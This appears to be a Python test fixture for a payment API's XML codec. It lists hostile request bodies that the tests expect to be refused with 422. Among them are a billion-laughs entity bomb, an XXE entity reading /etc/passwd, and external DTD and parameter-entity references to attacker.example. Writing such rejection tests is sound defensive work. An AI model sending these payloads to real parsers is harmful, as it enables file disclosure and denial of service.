"""XML documents a hostile client may send, each refused with 422 by paymux.api.xml_codec (the
unit tests) and by every handler that reads a body (tests/integration/test_hostile_inputs.py)."""

from __future__ import annotations

from paymux.api.media import MAX_DEPTH

_LAUGHS = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
HOSTILE_XML: dict[str, bytes] = {
    "billion laughs": (
        f'<?xml version="1.0"?><!DOCTYPE request [<!ENTITY lol0 "lol">{_LAUGHS}]>'
        "<request><subject>&lol9;</subject></request>"
    ).encode(),
    "external entity": (
        b'<?xml version="1.0"?><!DOCTYPE request [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<request><subject>&xxe;</subject></request>"
    ),
    "external DTD": b'<!DOCTYPE request SYSTEM "http://attacker.example/x.dtd"><request/>',
    "parameter entity": (
        b'<!DOCTYPE request [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><request/>'
    ),
    "undefined entity": b"<request><subject>&nope;</subject></request>",
    "deep nesting": (b"<request>" + b"<a>" * MAX_DEPTH + b"x" + b"</a>" * MAX_DEPTH + b"</request>"),
    "very deep nesting": b"<request>" + b"<a>" * 7_000 + b"</a>" * 7_000 + b"</request>",  # < 64 KiB
    "processing instruction": b'<?xml-stylesheet href="http://attacker.example/x"?><request/>',
    "namespaced element": b'<request xmlns:x="urn:x"><x:amount>1</x:amount></request>',
    "default namespace": b'<request xmlns="urn:x"><amount type="number">1</amount></request>',
    "undefined attribute": b'<request><amount type="number" unit="yuan">1</amount></request>',
    "undefined type": b'<request><amount type="integer">1</amount></request>',
    "duplicate element": (
        b'<request><amount type="number">1</amount><amount type="number">2</amount></request>'
    ),
    "mixed content": b"<request>text<subject>s</subject></request>",
    "element in a string": b"<request><subject>a<b>c</b></subject></request>",
    "not an item in an array": b'<request><fallback_methods type="array"><x>a</x></fallback_methods></request>',
    "number with spaces": b'<request><amount type="number"> 1 </amount></request>',
    "another root": b'<payment><amount type="number">1</amount></payment>',
    "two roots": b"<request/><request/>",
    "unclosed": b"<request><subject>s</request>",
    "latin-1 declared": b'<?xml version="1.0" encoding="ISO-8859-1"?><request/>',
    "not UTF-8": b"<request><subject>\xff</subject></request>",
    "utf-16": "<request/>".encode("utf-16"),
    "bad base64": b'<request><subject encoding="base64">!!</subject></request>',
    "lone surrogate in base64": b'<request><subject encoding="base64">7aCA</subject></request>',
}
